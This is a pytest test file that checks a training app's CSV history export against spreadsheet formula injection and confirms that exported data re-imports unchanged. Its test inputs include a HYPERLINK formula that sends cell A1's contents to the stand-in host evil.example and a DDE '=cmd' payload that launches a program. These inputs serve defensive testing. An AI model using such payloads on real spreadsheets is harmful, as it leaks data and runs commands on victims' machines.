"""History CSV exports are safe to open in a spreadsheet and still round-trip (issue 16)."""

from __future__ import annotations

import csv
import dataclasses
import io

import pytest
from _attempts import make_attempt

from trainer.fileio import csv_cell, csv_uncell
from trainer.history.store import open_store

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"点我")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "'=already quoted",
    "''=twice",
    "'plain apostrophe",
    "-",
    "",
]


@pytest.mark.parametrize("cell", HOSTILE + ["正常的答案", "'", "''"])
def test_every_cell_round_trips_through_the_guard(cell):
    assert csv_uncell(csv_cell(cell)) == cell


def test_no_guarded_cell_starts_like_a_formula():
    for cell in HOSTILE:
        assert csv_cell(cell)[:1] not in ("=", "+", "-", "@", "\t", "\r")


def test_history_csv_export_neutralises_formulas_and_imports_back_exactly(
    cli, tmp_path, monkeypatch
):
    attempts = [
        make_attempt(
            f"2026-11-2{i}T08:00:00+00:00",
            "trust-gap/phenomenon-1",
            answer=cell,
            session_id="=cmd|' /C calc'!A0" if i == 0 else None,
        )
        for i, cell in enumerate(HOSTILE[:9])
    ]
    attempts.append(
        dataclasses.replace(
            make_attempt("2026-11-29T08:00:00+00:00", "trust-gap/opinion-2"),
            question_text="=1+1 你怎么看？",
            topic="@topic",
            rubric_version="-12ab34cd",  # free-text fields; mode and ids are validated on import
        )
    )
    with open_store() as st:
        for a in attempts:
            st.add_attempt(a)
        original = [dataclasses.replace(a, id=None) for a in st.list_attempts(oldest_first=True)]

    out = tmp_path / "history.csv"
    assert cli("export", "-o", str(out)).exit_code == 0
    rows = list(csv.reader(io.StringIO(out.read_bytes().decode("utf-8-sig"), newline="")))
    for row in rows[1:]:
        for cell in row:
            assert cell[:1] not in ("=", "+", "-", "@", "\t", "\r"), row

    monkeypatch.setenv("TRAINER_HOME", str(tmp_path / "elsewhere"))
    result = cli("import", str(out))
    assert result.exit_code == 0, result.stderr
    with open_store() as st:
        back = [dataclasses.replace(a, id=None) for a in st.list_attempts(oldest_first=True)]
    assert back == original
